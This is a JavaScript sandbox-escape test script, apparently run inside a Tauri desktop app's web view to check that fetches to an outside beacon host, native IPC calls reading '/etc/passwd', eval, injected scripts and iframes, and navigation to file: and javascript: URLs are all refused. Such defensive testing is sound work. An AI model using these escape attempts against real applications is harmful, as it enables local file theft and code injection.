// Ways out of the window, run as a script of the page: every wall but the window's own is down. Gives what a new
// window answered; the others answer in `window.answers`, `refused ...` or what they got.
const [beacon, image] = arguments;
window.answers = [];
const say = (name, got) => window.answers.push(got === undefined ? `refused ${name}` : `${name}: ${got}`);
const asked = [
  ['fetch', () => fetch(`${beacon}/fetch`)],
  ['fetch of another host', () => fetch('https://example.org/')],
  ['import', () => import(`${beacon}/import.js`)],
  ['opener', () => window.__TAURI__.core.invoke('plugin:opener|open_path', { path: '/etc/passwd' })],
  ['window', () => window.__TAURI__.core.invoke('plugin:webview|create_webview_window', { options: {} })],
  ['emit', () => window.__TAURI__.core.invoke('plugin:event|emit', { event: 'open-item', payload: {} })],
  ['file', () => window.__TAURI__.core.invoke('save_page', { job: 'x', input: { file: '/etc/passwd' },
    options: { tags: [], place: 'inbox', text_only: false, new_version: false }, progress: '__CHANNEL__:0' })],
  ['file address', () => window.__TAURI__.core.invoke('open_external', { url: 'file:///etc/passwd' })],
  ['eval', () => Promise.resolve(window.setTimeout('window.hacked = 1', 0)).then(() => { throw 0; })],
  ['database of the web view', () => navigator.serviceWorker.register('/worker.js')],
  ['image document', () => fetch(`aldine://image/${image}`)],
  ['aldine open', () => fetch('aldine://open/0')],
];
window.attempts = asked.length;
for (const [name, ask] of asked) {
  try { ask().then((got) => say(name, String(got)), () => say(name)); } catch { say(name); }
}
try { navigator.sendBeacon(`${beacon}/beacon`); } catch {}
try { new WebSocket(beacon.replace('http', 'ws')); } catch {}
try { new EventSource(`${beacon}/events`); } catch {}
try { new Worker('data:text/javascript,1'); } catch {}
new Image().src = `${beacon}/new-image`;
const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
add('script', { textContent: 'window.hacked = "added script"' });
add('script', { src: `${beacon}/added.js` });
add('iframe', { src: `${beacon}/added.html` });
add('iframe', { srcdoc: `<script>parent.hacked = 'added frame'</script><img src='${beacon}/added.png'>` });
add('iframe', { src: `aldine://image/${image}` });
for (const address of [`${beacon}/location`, `aldine://image/${image}`, 'data:text/html,x', 'javascript:window.hacked=1', 'about:blank', 'file:///etc/passwd']) {
  try { location.href = address; } catch {}
}
const opened = window.open(`${beacon}/open`);
return { opened: opened === null ? null : String(opened) };
